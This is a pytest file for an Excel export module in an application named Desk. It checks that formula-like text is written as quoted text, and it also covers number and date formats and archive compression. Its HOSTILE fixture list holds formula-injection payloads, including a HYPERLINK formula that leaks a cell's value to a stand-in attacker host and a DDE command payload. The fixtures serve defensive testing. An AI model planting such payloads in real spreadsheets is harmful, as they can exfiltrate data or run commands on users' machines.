"""Writing Excel: text that looks like a formula stays text, numbers and dates stay real, and Desk reads it back."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desk.formats.table import read_table
from desk.formats.xlsx_writer import Column, Sheet, write_xlsx

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&D2,"Klik untuk memperbarui")',
    "=1+1",
    "+62 812 3456 7890",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
    "- KTP-el\n- Kartu keluarga",
]


def test_formula_like_text_is_written_as_text_and_read_back_unchanged(tmp_path: Path) -> None:
    rows = [[text, n, date(2025, 10, 29)] for n, text in enumerate(HOSTILE)]
    data = write_xlsx([Sheet("Data", [Column("Teks", 40, wrap=True), Column("Nomor", 10, "#,##0"),
                                      Column("Tanggal", 14)], rows)])
    sheet = load_workbook(io.BytesIO(data))["Data"]
    for row in range(2, len(HOSTILE) + 2):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "s" and cell.quotePrefix, (row, cell.value, cell.data_type)
        assert sheet.cell(row, 2).data_type == "n" and sheet.cell(row, 2).number_format == "#,##0"
        assert sheet.cell(row, 3).is_date and sheet.cell(row, 3).number_format == "DD-MM-YYYY"
    (tmp_path / "ekspor.xlsx").write_bytes(data)
    table = read_table(tmp_path / "ekspor.xlsx", header=True)
    assert [row.cells[0] for row in table.rows] == [text.strip() for text in HOSTILE]
    assert [row.cells[1] for row in table.rows] == list(range(len(HOSTILE)))
    assert {row.cells[2] for row in table.rows} == {datetime(2025, 10, 29)}


def test_each_sheet_has_its_heading_frozen_an_autofilter_and_widths() -> None:
    data = write_xlsx([
        Sheet("Rekap", [Column("Nomor", 24), Column("Nama", 40), Column("Diterima", 18)],
              ([f"{n:04d}/PNP/DKUKMTK/X/2025", "Siti\x00 Aminah", datetime(2025, 10, 29, 9, 5)] for n in range(1, 501))),
        Sheet("Catatan", [Column("Petunjuk", 100, wrap=True)], [["Baris pertama."]], freeze=None, autofilter=False,
              heading_style=False),
    ])
    book = load_workbook(io.BytesIO(data))
    rekap = book["Rekap"]
    assert rekap.freeze_panes == "A2" and rekap.auto_filter.ref == "A1:C501"
    assert [rekap.column_dimensions[c].width for c in "ABC"] == [24, 40, 18]
    assert rekap["A1"].font.b and rekap["A1"].fill.fgColor.rgb.endswith("DDEBF7")
    assert rekap["B2"].value == "Siti Aminah"  # what a workbook cannot hold is left out, not a crash
    assert rekap["C2"].value == datetime(2025, 10, 29, 9, 5) and rekap["C2"].number_format == "DD-MM-YYYY HH:MM"
    assert rekap.max_row == 501
    notes = book["Catatan"]
    assert notes.freeze_panes is None and notes.auto_filter.ref is None and notes["A1"].alignment.wrap_text


def test_a_time_with_a_zone_is_a_programming_error_not_a_wrong_hour() -> None:
    from datetime import UTC

    with pytest.raises(ValueError, match="local time"):
        write_xlsx([Sheet("X", [Column("Waktu")], [[datetime(2025, 10, 29, 1, tzinfo=UTC)]])])
    # Also after rows of local times, when the column's date cell is already made and reused.
    with pytest.raises(ValueError, match="local time"):
        write_xlsx([Sheet("X", [Column("Waktu")], [[datetime(2025, 10, 29, 1)], [datetime(2025, 10, 29, 1, tzinfo=UTC)]])])


def test_every_row_keeps_its_own_values_formats_and_styles(tmp_path: Path) -> None:
    """Styled cells (dates, number formats, wrapped and quoted text) on many rows, mixed with plain ones."""
    first = datetime(2025, 1, 1, 8, 0)
    rows = [[n, first.replace(day=1 + n % 28, hour=8 + n % 9), date(2025, 2, 1 + n % 28),
             (HOSTILE[n % len(HOSTILE)] if n % 3 == 0 else f"Catatan {n}"), n * 1.5, "L" if n % 2 else "P"]
            for n in range(300)]
    data = write_xlsx([Sheet("Data", [Column("No"), Column("Diterima", 17), Column("Jatuh tempo", 12),
                                      Column("Catatan", 30, wrap=True), Column("Nilai", 10, "#,##0.00"),
                                      Column("L/P", 5)], rows)])
    sheet = load_workbook(io.BytesIO(data))["Data"]
    for n, row in enumerate(sheet.iter_rows(min_row=2), start=0):
        number, received, due, note, value, sex = row
        assert number.value == n and number.number_format == "General"
        assert received.value == rows[n][1] and received.number_format == "DD-MM-YYYY HH:MM"
        assert due.value == datetime.combine(rows[n][2], datetime.min.time()) and due.number_format == "DD-MM-YYYY"
        assert note.value == rows[n][3] and note.alignment.wrap_text
        assert note.quotePrefix == (n % 3 == 0), n  # only the text that looks like a formula is quoted
        assert note.data_type == "s"
        assert value.value == n * 1.5 and value.number_format == "#,##0.00"
        assert sex.value == rows[n][5] and not sex.has_style
    assert sheet.max_row == 301


def test_empty_text_is_an_empty_cell_not_an_empty_string() -> None:
    """Excel counts a cell holding "" as filled (COUNTA, "Go To Special > Blanks"); nothing recorded is no cell."""
    import re
    import zipfile

    data = write_xlsx([Sheet("Data", [Column("Nama"), Column("Organisasi"), Column("Catatan", wrap=True)],
                             [["Siti Aminah", "", ""], ["Budi", "Koperasi Maju", None]])])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    cells = re.findall(r'<c r="([A-Z]+[0-9]+)"', xml)
    assert cells == ["A1", "B1", "C1", "A2", "A3", "B3"], cells
    sheet = load_workbook(io.BytesIO(data))["Data"]
    assert [c.value for c in sheet[3]] == ["Budi", "Koperasi Maju", None]


def test_openpyxl_writes_through_lxml() -> None:
    """lxml is pinned for speed: openpyxl picks it silently when importable and falls back as silently."""
    import openpyxl
    from openpyxl.cell import _writer

    assert openpyxl.LXML
    assert _writer.write_cell is _writer.lxml_write_cell  # what a write-only sheet calls for every cell


def test_the_workbook_is_a_whole_deflated_archive_with_its_save_time(tmp_path: Path) -> None:
    """Desk saves the archive itself (at the fastest deflate level): every part compressed and intact, the
    workbook's "last modified" set as openpyxl's own save sets it, and a sheet list that is never empty."""
    import zipfile

    rows = [[f"Pemohon {n}", n] for n in range(2000)]
    data = write_xlsx([Sheet("Data", [Column("Nama"), Column("No")], rows)])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        infos = archive.infolist()
        assert infos and all(info.compress_type == zipfile.ZIP_DEFLATED for info in infos)
        sheet_xml = archive.getinfo("xl/worksheets/sheet1.xml")
        assert sheet_xml.compress_size < sheet_xml.file_size / 4  # repetitive XML deflates well even at level 1
    book = load_workbook(io.BytesIO(data))
    assert book["Data"]["A2001"].value == "Pemohon 1999"
    saved_at = datetime.now(UTC).replace(tzinfo=None)  # openpyxl keeps the moment as naive UTC
    assert book.properties.modified is not None and abs((book.properties.modified - saved_at).total_seconds()) < 120
    empty = load_workbook(io.BytesIO(write_xlsx([])))
    assert len(empty.worksheets) == 1
